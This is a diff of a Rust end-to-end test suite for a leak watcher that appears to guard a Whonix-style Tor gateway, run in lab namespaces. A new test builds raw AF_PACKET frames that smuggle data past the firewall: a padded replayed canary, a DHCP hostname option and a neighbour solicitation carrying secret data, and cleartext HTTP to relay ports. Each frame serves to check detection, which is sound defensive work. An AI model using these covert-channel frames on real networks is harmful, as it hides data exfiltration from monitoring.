@@ -11,16 +11,23 @@
 //!
 //! The gateway runs a Whonix-style nftables `inet` policy (forwarding off,
 //! workstation TCP SYN and UDP 53 redirected to local ports, output on the
-//! external interface only for one uid), and a process of that uid keeps TCP
-//! streams open to two "relays" on unusual ports (5555, 8443), given to the
-//! watcher with `--allow`. Checked:
+//! external interface only for one uid), and a process of that uid keeps TLS
+//! streams (a ClientHello, then application-data records) open to two
+//! "relays" on unusual ports (5555, 8443), given to the watcher with
+//! `--allow tor:`. Checked:
 //! * correct gateway + full probe sweep at full rate: PASS, zero leaks, the
-//!   relay streams counted as Tor, no kernel drop;
+//!   relay streams counted as Tor, no kernel drop, the accounting closed;
 //! * a gateway that forwards and masquerades: LEAK, every leaked packet
-//!   attributed to the probe it came from, the counts per suite right;
+//!   attributed to the probe it came from, the counts per suite exact;
+//! * a hostile root process on the correct gateway writing frames with an
+//!   AF_PACKET socket (a replayed canary carrying data, a DHCP-shaped
+//!   datagram to the internet, an off-link neighbour solicitation carrying
+//!   data, cleartext HTTP to a relay's ORPort and to a DirPort): LEAK, each
+//!   with its cause and rule;
 //! * the watched interface deleted mid-run: never PASS (INCONCLUSIVE).
 //!
-//! Needs root; without it the tests say so and pass vacuously.
+//! Needs root: without it the tests say so and pass, unless
+//! `LEAKTEST_REQUIRE_ROOT=1` (CI) makes them fail.
 
 use leaktest_netns::{veth, Netns, Proc, Topology};
 use serde_json::Value;
@@ -38,12 +45,7 @@ const TOR_UID: &str = "65534";
 const RELAYS: [&str; 2] = ["203.0.113.5:5555", "203.0.113.6:8443"];
 
 fn is_root() -> bool {
-    // SAFETY: geteuid has no preconditions.
-    let root = unsafe { libc::geteuid() } == 0;
-    if !root {
-        eprintln!("skipping: end-to-end watch tests need root");
-    }
-    root
+    leaktest_netns::require_root("watch_e2e")
 }
 
 /// The Whonix-style gateway policy. `broken`: forwarding with masquerade
@@ -97,17 +99,20 @@ fn ruleset(broken: bool) -> String {
 }
 
 /// Script of the "Tor" process (perl: part of every Debian system): two
-/// streams to the relays, a little data on each every 50 ms, for at most
-/// two minutes.
+/// streams to the relays shaped like Tor's TLS links (a handshake record
+/// holding a ClientHello, then application-data records of one 514-byte cell
+/// of random bytes), one record on each every 50 ms, for at most two minutes.
 const RELAY_CLIENT: &str = r#"
 use IO::Socket::INET;
 $| = 1;
 my @s = map { IO::Socket::INET->new(PeerAddr => $_, Proto => 'tcp', Timeout => 5)
               or die "connect $_: $!\n" } @ARGV;
+sub rnd { join '', map { chr(int(rand(256))) } 1 .. $_[0] }
+for my $s (@s) { print {$s} "\x16\x03\x01\x00\xc8\x01" . rnd(199) or die "write: $!\n"; }
 print "connected\n";
 my $end = time + 120;
 while (time < $end) {
-    for my $s (@s) { print {$s} ('x' x 100) or exit 0; }
+    for my $s (@s) { print {$s} ("\x17\x03\x03\x02\x02" . rnd(514)) or exit 0; }
     select(undef, undef, undef, 0.05);
 }
 "#;
@@ -228,35 +233,13 @@ fn build(tag: &str, broken: bool) -> Lab {
         .iter()
         .map(|a| listener(&inet, a, stop.clone()))
         .collect();
-    let mut lab = Lab {
+    let lab = Lab {
         dir,
         stop,
         listeners,
         relay_client: None,
         topo,
     };
-    // The "Tor" process: only its uid may leave through gw1.
-    let mut cmd = lab.ns("gw").command("setpriv");
-    cmd.args([
-        &format!("--reuid={TOR_UID}"),
-        &format!("--regid={TOR_UID}"),
-        "--clear-groups",
-        "perl",
-        "-e",
-        RELAY_CLIENT,
-    ])
-    .args(RELAYS)
-    .stdout(std::process::Stdio::piped());
-    let client = lab.ns("gw").spawn(cmd).expect("relay client");
-    let out = client.take_stdout().unwrap();
-    let mut line = String::new();
-    let _ = BufReader::new(out).read_line(&mut line);
-    assert_eq!(
-        line.trim(),
-        "connected",
-        "the relay client could not connect"
-    );
-    lab.relay_client = Some(client);
     // Resolve neighbours before the sweep (the gateway answers no ping).
     for target in ["10.152.152.10", "fd19:c33d:88bc::10"] {
         let mut ping = lab.ns("ws").command("ping");
@@ -264,6 +247,34 @@ fn build(tag: &str, broken: bool) -> Lab {
         let _ = ping.output();
     }
     lab
+}
+
+impl Lab {
+    /// Starts the "Tor" process: only its uid may leave through gw1. Started
+    /// after the watch, its flows are followed from their SYN.
+    fn start_relays(&mut self) {
+        let mut cmd = self.ns("gw").command("setpriv");
+        cmd.args([
+            &format!("--reuid={TOR_UID}"),
+            &format!("--regid={TOR_UID}"),
+            "--clear-groups",
+            "perl",
+            "-e",
+            RELAY_CLIENT,
+        ])
+        .args(RELAYS)
+        .stdout(std::process::Stdio::piped());
+        let client = self.ns("gw").spawn(cmd).expect("relay client");
+        let out = client.take_stdout().unwrap();
+        let mut line = String::new();
+        let _ = BufReader::new(out).read_line(&mut line);
+        assert_eq!(
+            line.trim(),
+            "connected",
+            "the relay client could not connect"
+        );
+        self.relay_client = Some(client);
+    }
 }
 
 /// Starts `leaktest watch` on gw1 and waits until its capture is proven live.
@@ -277,7 +288,7 @@ fn start_watch_with(lab: &Lab, extra: &[&str], allow_relays: bool) -> Proc {
     cmd.args(["watch", "--iface", "gw1"]);
     if allow_relays {
         for r in RELAYS {
-            cmd.args(["--allow", r]);
+            cmd.args(["--allow", &format!("tor:{r}")]);
         }
     }
     cmd.env("LEAKTEST_STATE_DIR", lab.path("state"));
@@ -356,6 +367,10 @@ fn probe(lab: &Lab, args: &[&str]) -> Value {
     v
 }
 
+fn run_of(probe: &Value) -> &str {
+    probe["run_id"].as_str().unwrap()
+}
+
 fn u(v: &Value) -> u64 {
     v.as_u64().unwrap_or_else(|| panic!("not a count: {v}"))
 }
@@ -365,8 +380,9 @@ fn correct_gateway_passes_a_full_sweep() {
     if !is_root() {
         return;
     }
-    let lab = build("wok", false);
+    let mut lab = build("wok", false);
     let watch = start_watch(&lab, &[]);
+    lab.start_relays();
     let p = probe(&lab, &["--rate", "max"]);
     assert!(u(&p["sent"]) > 700_000, "not the full sweep: {}", p["sent"]);
     // Let the relay streams show up after the sweep too.
@@ -381,10 +397,40 @@ fn correct_gateway_passes_a_full_sweep() {
         "relay streams not counted as Tor"
     );
     assert_eq!(u(&w["tor"]["endpoints"]), 2);
+    // Both relay streams were followed record by record from their SYN.
+    let flows = &w["tor"]["flows"];
+    assert_eq!(
+        (u(&flows["started"]), u(&flows["already_open"])),
+        (2, 0),
+        "{flows}"
+    );
+    assert_eq!(
+        (u(&flows["violations"]), u(&flows["lost_sync"])),
+        (0, 0),
+        "{flows}"
+    );
+    assert!(u(&flows["bytes_followed"]) > 2 * 205, "{flows}");
     let c = &w["capture"];
     assert_eq!(u(&c["dropped"]), 0);
     assert!(u(&c["canaries_sent"]) >= 2);
     assert_eq!(c["canaries_seen"], c["canaries_sent"]);
+    // The accounting closed: every frame the kernel counted was classified.
+    let a = &c["accounting"];
+    assert_eq!(a["sealed"], true, "{a}");
+    assert_eq!(u(&a["kernel_received"]), u(&a["delivered"]), "{a}");
+    assert_eq!(
+        u(&a["delivered"]),
+        u(&a["barrier"]) + u(&a["handled"]),
+        "{a}"
+    );
+    assert_eq!(u(&a["handled"]), u(&a["classified"]), "{a}");
+    let by_rule: u64 = w["rules"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| u(&r["packets"]))
+        .sum();
+    assert_eq!(by_rule, u(&a["classified"]));
     assert!(!out.contains("LEAK"), "{out}");
 }
 
@@ -393,8 +439,9 @@ fn forwarding_gateway_leaks_every_probe_attributed() {
     if !is_root() {
         return;
     }
-    let lab = build("wfw", true);
+    let mut lab = build("wfw", true);
     let watch = start_watch(&lab, &[]);
+    lab.start_relays();
     // A rate the forwarding gateway carries without loss, so every probe
     // it forwards is one the watcher must report.
     let p = probe(
@@ -459,12 +506,35 @@ fn forwarding_gateway_leaks_every_probe_attributed() {
         assert_eq!(sent_udp, 65536);
         assert_eq!(udp[f], sent_udp, "{name}: UDP probes leaked vs sent");
         let sent_icmp = u(&p["counts"][name]["icmp"]);
-        assert!(
-            icmp[f] > 0 && icmp[f] <= sent_icmp,
-            "{name}: {} ICMP leaks of {sent_icmp} probes",
-            icmp[f]
-        );
+        // The forward chain accepts everything and nothing drops conntrack-
+        // invalid packets, so every ICMP type is forwarded too (the ones
+        // conntrack cannot track leave un-NATed).
+        assert_eq!(icmp[f], sent_icmp, "{name}: ICMP probes leaked vs sent");
     }
+    // Exactly the probes sent, each exactly once: the run's seq set is the
+    // icmp and udp suites of both families.
+    let run = &w["runs"][0];
+    assert_eq!(run["run"], run_of(&p));
+    let want: Vec<String> = leaktest_wire::Family::BOTH
+        .into_iter()
+        .flat_map(|fam| {
+            [leaktest_wire::Suite::Icmp, leaktest_wire::Suite::Udp].map(move |s| {
+                let base = s.base()
+                    + if fam == leaktest_wire::Family::V6 {
+                        1 << 20
+                    } else {
+                        0
+                    };
+                format!("{}-{}", base, base + s.probe_count() - 1)
+            })
+        })
+        .collect();
+    assert_eq!(run["seqs"], want.join(","), "{run}");
+    assert_eq!(
+        u(&run["distinct"]),
+        u(&run["packets"]),
+        "a probe seen twice: {run}"
+    );
     assert_eq!(u(&w["leak_packets"]), udp[0] + udp[1] + icmp[0] + icmp[1]);
     // The relay streams are still Tor, not leaks.
     assert_eq!(u(&w["tor"]["endpoints"]), 2);
@@ -555,7 +625,7 @@ fn tor_control_port_allowlist_and_restrict_tor() {
     if !is_root() {
         return;
     }
-    let lab = build("wtr", false);
+    let mut lab = build("wtr", false);
     let _tor = start_tor(&lab);
     let before = tor_conf(&lab, "ReachableORAddresses");
     let watch = start_watch_with(
@@ -567,6 +637,7 @@ fn tor_control_port_allowlist_and_restrict_tor() {
     assert_eq!(tor_conf(&lab, "FascistFirewall"), "1");
     assert!(tor_conf(&lab, "ReachableORAddresses").contains("443"));
     assert!(lab.path("state").read_dir().unwrap().next().is_some());
+    lab.start_relays();
     std::thread::sleep(Duration::from_millis(800));
     let (code, out, w) = finish_watch(&lab, watch);
     // The relay streams are Tor because Tor's control port says so (bridges).
@@ -580,9 +651,201 @@ fn tor_control_port_allowlist_and_restrict_tor() {
     assert!(lab.path("state").read_dir().unwrap().next().is_none());
 }
 
+/// A DHCPv4 BOOTREQUEST from `mac` carrying `hostname` (option 12).
+fn dhcp_request(mac: [u8; 6], hostname: &[u8]) -> Vec<u8> {
+    let mut b = vec![0u8; 240];
+    b[0..3].copy_from_slice(&[1, 1, 6]);
+    b[28..34].copy_from_slice(&mac);
+    b[236..240].copy_from_slice(&[0x63, 0x82, 0x53, 0x63]);
+    b.extend_from_slice(&[53, 1, 1, 12, hostname.len() as u8]);
+    b.extend_from_slice(hostname);
+    b.push(255);
+    b
+}
+
+#[test]
+fn a_hostile_process_on_the_gateway_cannot_pass() {
+    use etherparse::{Icmpv6Type, PacketBuilder};
+    if !is_root() {
+        return;
+    }
+    let mut lab = build("whp", false);
+    let watch = start_watch(&lab, &[]);
+    lab.start_relays();
+    let gw_mac = lab.ns("gw").mac("gw1").unwrap();
+    let hop_mac = lab.ns("in").mac("in0").unwrap();
+    let gw4 = [198, 51, 100, 2];
+    let internet4 = [203, 0, 113, 7];
+    let gw6: [u8; 16] = "2001:db8:1::2"
+        .parse::<std::net::Ipv6Addr>()
+        .unwrap()
+        .octets();
+    // Frames a root process writes with an AF_PACKET socket: no firewall sees them.
+    let mut frames: Vec<(&str, Vec<u8>)> = Vec::new();
+    // 1. The watcher's own canary, sniffed, sent on to the next hop with 93 bytes of data.
+    let canary = lab
+        .ns("gw")
+        .run_in(|| {
+            let mut cap = pcap::Capture::from_device("gw1")
+                .unwrap()
+                .immediate_mode(true)
+                .timeout(100)
+                .open()
+                .unwrap();
+            cap.filter("ether proto 0x88b5", true).unwrap();
+            let deadline = Instant::now() + Duration::from_secs(5);
+            while Instant::now() < deadline {
+                if let Ok(p) = cap.next_packet() {
+                    return Some(p.data.to_vec());
+                }
+            }
+            None
+        })
+        .unwrap()
+        .expect("a canary of the watcher on gw1");
+    let mut replay = canary.clone();
+    replay[0..6].copy_from_slice(&hop_mac);
+    replay.extend_from_slice(&[b'D'; 93]);
+    frames.push(("replayed canary", replay));
+    // 2. A DHCP-shaped datagram from the gateway's MAC to an internet address,
+    //    with data in its hostname option.
+    let mut f = Vec::new();
+    PacketBuilder::ethernet2(gw_mac, hop_mac)
+        .ipv4(gw4, internet4, 64)
+        .udp(68, 67)
+        .write(&mut f, &dhcp_request(gw_mac, b"SECRET-DATA"))
+        .unwrap();
+    frames.push(("dhcp to the internet", f));
+    // 3. A neighbour solicitation from the global address to an off-link
+    //    address, with data after its options.
+    let mut ns = "2001:db8:1::1"
+        .parse::<std::net::Ipv6Addr>()
+        .unwrap()
+        .octets()
+        .to_vec();
+    ns.extend_from_slice(&[1, 1]);
+    ns.extend_from_slice(&gw_mac);
+    ns.extend_from_slice(b"exfiltrated after the options");
+    let mut f = Vec::new();
+    PacketBuilder::ethernet2(gw_mac, hop_mac)
+        .ipv6(
+            gw6,
+            "2001:db8:99::7"
+                .parse::<std::net::Ipv6Addr>()
+                .unwrap()
+                .octets(),
+            255,
+        )
+        .icmpv6(Icmpv6Type::Unknown {
+            type_u8: 135,
+            code_u8: 0,
+            bytes5to8: [0; 4],
+        })
+        .write(&mut f, &ns)
+        .unwrap();
+    frames.push(("off-link neighbour solicitation", f));
+    // 4. Cleartext HTTP to a relay's ORPort, from its SYN; and to a DirPort.
+    for (name, dst, port) in [
+        ("http to the orport", [203, 0, 113, 5], 5555u16),
+        ("http to a dirport", [203, 0, 113, 6], 9030),
+    ] {
+        let mut syn = Vec::new();
+        PacketBuilder::ethernet2(gw_mac, hop_mac)
+            .ipv4(gw4, dst, 64)
+            .tcp(45123, port, 1000, 64240)
+            .syn()
+            .write(&mut syn, &[])
+            .unwrap();
+        frames.push((name, syn));
+        let mut get = Vec::new();
+        PacketBuilder::ethernet2(gw_mac, hop_mac)
+            .ipv4(gw4, dst, 64)
+            .tcp(45123, port, 1001, 64240)
+            .psh()
+            .ack(1)
+            .write(&mut get, b"GET /secret HTTP/1.1\r\nHost: relay\r\n\r\n")
+            .unwrap();
+        frames.push((name, get));
+    }
+    let sent = frames.len();
+    lab.ns("gw")
+        .run_in(move || {
+            let inj = leaktest_capture::CanaryInjector::open("gw1").unwrap();
+            for (name, f) in &frames {
+                inj.send_frame(f).unwrap_or_else(|e| panic!("{name}: {e}"));
+                std::thread::sleep(Duration::from_millis(20));
+            }
+        })
+        .unwrap();
+    assert_eq!(sent, 7);
+    std::thread::sleep(Duration::from_millis(300));
+    let (code, out, w) = finish_watch(&lab, watch);
+    assert_eq!(
+        (w["verdict"].as_str(), code),
+        (Some("leak"), 1),
+        "{w:#}\n{out}"
+    );
+    let leaks = w["leaks"].as_array().unwrap();
+    let has = |cause: &str, rule: &str, pick: &dyn Fn(&Value) -> bool| {
+        leaks
+            .iter()
+            .any(|l| l["cause"] == cause && l["rule"] == rule && pick(l))
+    };
+    assert!(
+        has("forged-canary", "canary", &|l| l["len"] == 64 + 93
+            && l["cause_detail"] == "altered"),
+        "the replayed canary: {w:#}"
+    );
+    assert!(
+        has("housekeeping-shaped", "dhcpv4", &|l| l["dst"]
+            == "203.0.113.7"),
+        "the DHCP datagram: {w:#}"
+    );
+    assert!(
+        has("housekeeping-shaped", "neighbour-discovery", &|l| l["dst"]
+            == "2001:db8:99::7"),
+        "the neighbour solicitation: {w:#}"
+    );
+    assert!(
+        has("not-tor", "tor", &|l| l["dst_port"] == 5555
+            && l["cause_detail"] == "an HTTP request in the clear"),
+        "HTTP to the ORPort: {w:#}"
+    );
+    assert!(
+        has("unexpected", "default", &|l| l["dst_port"] == 9030
+            && l["tcp_flags"] == "PA"),
+        "HTTP to the DirPort: {w:#}"
+    );
+    // The relay streams (real TLS-shaped flows) stayed Tor.
+    assert!(u(&w["tor"]["packets"]) > 0);
+    assert_eq!(
+        u(&w["tor"]["flows"]["started"]),
+        3,
+        "two relay streams and the attacker's SYN"
+    );
+    // The live lines name the rule.
+    assert!(
+        out.contains("[rule canary]") && out.contains("[rule dhcpv4]"),
+        "{out}"
+    );
+}
+
+/// Runs `leaktest watch ARGS` in a fresh namespace of its own (never in the
+/// host's: the watcher injects canaries) and returns its exit code and stderr.
+fn watch_in_empty_ns(args: &[&str]) -> (Option<i32>, String) {
+    let ns = Netns::create(&leaktest_netns::unique_prefix("wbo")).unwrap();
+    let mut cmd = ns.command(BIN);
+    cmd.arg("watch").args(args);
+    let out = cmd.output().unwrap();
+    (
+        out.status.code(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
 #[test]
 fn bad_options_and_missing_interface_exit_2() {
-    // No namespace needed: these fail before any capture starts.
+    // Parsing errors: refused before anything starts (no namespace needed).
     let run = |args: &[&str]| {
         let out = Command::new(BIN).args(args).output().unwrap();
         (
@@ -592,25 +855,42 @@ fn bad_options_and_missing_interface_exit_2() {
     };
     let (code, err) = run(&["watch"]);
     assert_eq!(code, Some(2), "{err}");
-    let (code, err) = run(&["watch", "--iface", "lt-nonexist0", "--allow", "nonsense"]);
-    assert_eq!(code, Some(2), "{err}");
-    assert!(err.contains("--allow"), "{err}");
     let (code, err) = run(&["watch", "--iface", "lt-nonexist0", "--duration", "-3"]);
     assert_eq!(code, Some(2), "{err}");
-    if is_root() {
-        let (code, err) = run(&["watch", "--iface", "lt-nonexist0", "--duration", "1"]);
-        assert_eq!(code, Some(2), "{err}");
-        assert!(err.starts_with("leaktest: error:"), "{err}");
-        assert!(err.contains("lt-nonexist0"), "{err}");
-        assert_eq!(err.trim().lines().count(), 1, "{err}");
-        // A control port nobody listens on (a port in a fresh namespace).
-        let topo_ns = Netns::create(&leaktest_netns::unique_prefix("wcp")).unwrap();
-        let mut cmd = topo_ns.command(BIN);
-        cmd.args(["watch", "--iface", "lo", "--tor-control", "127.0.0.1:9"]);
-        let out = cmd.output().unwrap();
-        let err = String::from_utf8_lossy(&out.stderr);
-        assert_eq!(out.status.code(), Some(2), "{err}");
-        assert!(err.starts_with("leaktest: error:"), "{err}");
-        assert!(err.to_lowercase().contains("control"), "{err}");
+    if !is_root() {
+        return;
+    }
+    // Everything else in a namespace of its own.
+    for (args, want) in [
+        (
+            &["--iface", "lt-nonexist0", "--allow", "nonsense"][..],
+            "--allow",
+        ),
+        (
+            &["--iface", "lt-nonexist0", "--allow", "ssh:198.51.100.7:22"][..],
+            "unknown kind",
+        ),
+        (
+            &["--iface", "lt-nonexist0", "--duration", "1"][..],
+            "lt-nonexist0",
+        ),
+        (
+            &["--iface", "lo", "--tor-control", "127.0.0.1:9"][..],
+            "control",
+        ),
+        (&["--iface", "lo", "--json", "/dev/full"][..], "device"),
+        (
+            &["--iface", "lo", "--json", "/nonexistent-dir/w.json"][..],
+            "does not exist",
+        ),
+    ] {
+        let (code, err) = watch_in_empty_ns(args);
+        assert_eq!(code, Some(2), "{args:?}: {err}");
+        assert!(err.starts_with("leaktest: error:"), "{args:?}: {err}");
+        assert!(
+            err.to_lowercase().contains(&want.to_lowercase()),
+            "{args:?}: {err}"
+        );
+        assert_eq!(err.trim().lines().count(), 1, "{args:?}: {err}");
     }
 }
